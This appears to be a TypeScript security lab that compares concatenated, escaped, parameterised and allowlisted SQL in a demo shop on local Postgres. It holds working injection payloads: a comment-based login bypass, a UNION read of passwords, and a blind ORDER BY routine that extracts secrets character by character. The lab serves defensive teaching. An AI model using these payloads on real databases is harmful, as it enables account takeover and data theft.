// A statement that is put together from strings lets whoever supplies a string write the rest of
// it. Doubled quotes stop what has to get out of quotes, and a number has none around it. A
// parameter can be any value but never a name: the column to sort by is still a string, and the
// order of some harmless rows is enough to answer a question about any other table.

import assert from "node:assert/strict";
import { lab } from "#kit";
import { postgres } from "#services/postgres";

type Statement = [text: string, values?: string[]];

/** What a shop asks of its database. All arguments come from the request, as they are. */
interface Shop {
  login(name: string, password: string): Statement;
  inCategory(category: string): Statement;
  sortedBy(column: string): Statement;
}

const concat: Shop = {
  login: (name, password) => [
    `SELECT name FROM account WHERE name = '${name}' AND password = '${password}'`,
  ],
  inCategory: (category) => [`SELECT name FROM product WHERE category = ${category}`],
  sortedBy: (column) => [`SELECT name FROM product ORDER BY ${column}`],
};

const double = (text: string) => text.replaceAll("'", "''");

const escaped: Shop = {
  login: (name, password) => concat.login(double(name), double(password)),
  inCategory: (category) => concat.inCategory(double(category)),
  sortedBy: (column) => concat.sortedBy(double(column)),
};

const parameters: Shop = {
  login: (name, password) => [
    "SELECT name FROM account WHERE name = $1 AND password = $2",
    [name, password],
  ],
  inCategory: (category) => ["SELECT name FROM product WHERE category = $1", [category]],
  sortedBy: concat.sortedBy,
};

const COLUMNS = ["name", "price"];

const allowlist: Shop = {
  ...parameters,
  sortedBy(column) {
    if (!COLUMNS.includes(column)) column = "name"; // matters: The sort column answers no question
    return concat.sortedBy(column);
  },
};

/** Reads a text from anywhere in the database by nothing but the order of the products shown. */
async function readBySorting(
  text: string,
  length: number,
  show: (by: string) => Promise<string[]>,
) {
  const [cheapest] = await show("price");
  let read = "";
  for (let position = 1; position <= length; position++) {
    const code = `ascii(substr(${text}, ${position}))`;
    let [low, high] = [0, 128];
    while (high - low > 1) {
      const middle = (low + high) / 2;
      const [first] = await show(`CASE WHEN ${code} < ${middle} THEN price ELSE -price END`);
      if (first === cheapest) high = middle;
      else low = middle;
    }
    read += String.fromCharCode(low);
  }
  return read;
}

const schema = (users: number, secretLength: number) => `
  CREATE TABLE product AS
    SELECT 'Product ' || n AS name, n % 3 AS category, n * 10 AS price, 100 - n AS weight
      FROM generate_series(1, 9) AS n;
  CREATE TABLE account AS
    SELECT id, 'user ' || id AS name, left(md5('secret ' || id), ${secretLength}) AS password
      FROM generate_series(1, ${users}) AS id`;

export default lab({
  title: "SQL injection, past the quote",
  question: "Quotes are escaped: what can still be injected, and how much does it reach?",
  services: { postgres },
  knobs: { users: 20, secretLength: { value: 16, from: 1, to: 32 } },
  arms: { concat, escaped, parameters, "parameters-allowlist": allowlist },

  async trial(shop, { postgres, knobs: { users, secretLength } }) {
    await using client = await postgres.connect();
    await client.query(schema(users, secretLength));
    const { rows: accounts } = await client.query("SELECT name, password FROM account ORDER BY id");
    const { name, password } = accounts[0];

    /** What a page shows: the names that were found, or nothing where the server refused. */
    const show = async (statement: Statement): Promise<string[]> => {
      const { rows } = await client.query(...statement).catch(() => ({ rows: [] }));
      return rows.map((row) => row.name);
    };
    assert.deepEqual(await show(shop.login(name, password)), [name], "an honest login");
    assert.equal((await show(shop.inCategory("1"))).length, 3, "an honest filter");

    const loggedIn = await show(shop.login(`${name}' --`, "unknown"));
    const products = await show(shop.inCategory("0 UNION SELECT password FROM account"));
    const read = await readBySorting(
      "(SELECT password FROM account WHERE id = 1)",
      secretLength,
      (by) => show(shop.sortedBy(by)),
    );
    const byWeight = await show(shop.sortedBy("weight"));
    return {
      loggedIn: loggedIn.length,
      passwordsShown: accounts.filter(({ password }) => products.includes(password)).length,
      charactersRead: [...read].filter((character, at) => character === password[at]).length,
      lightest: byWeight[0] ?? "",
    };
  },

  claims: {
    "A quote in the name does not open the login": {
      holds: (found) => found.loggedIn === 0,
      brokenBy: ["concat"],
    },
    "A number without quotes reads no other table": {
      holds: (found) => found.passwordsShown === 0,
      brokenBy: ["concat", "escaped"],
    },
    "The sort column answers no question": {
      holds: (found) => found.charactersRead === 0,
      brokenBy: ["concat", "escaped", "parameters"],
    },
    "Any column can be sorted by without a change in the code": {
      holds: (found) => found.lightest === "Product 9",
      brokenBy: ["parameters-allowlist"],
    },
  },

  measures: {
    "logins without a password": (found) => found.loggedIn,
    "passwords shown among the products": (found) => found.passwordsShown,
    "secret characters read": (found) => found.charactersRead,
  },
});
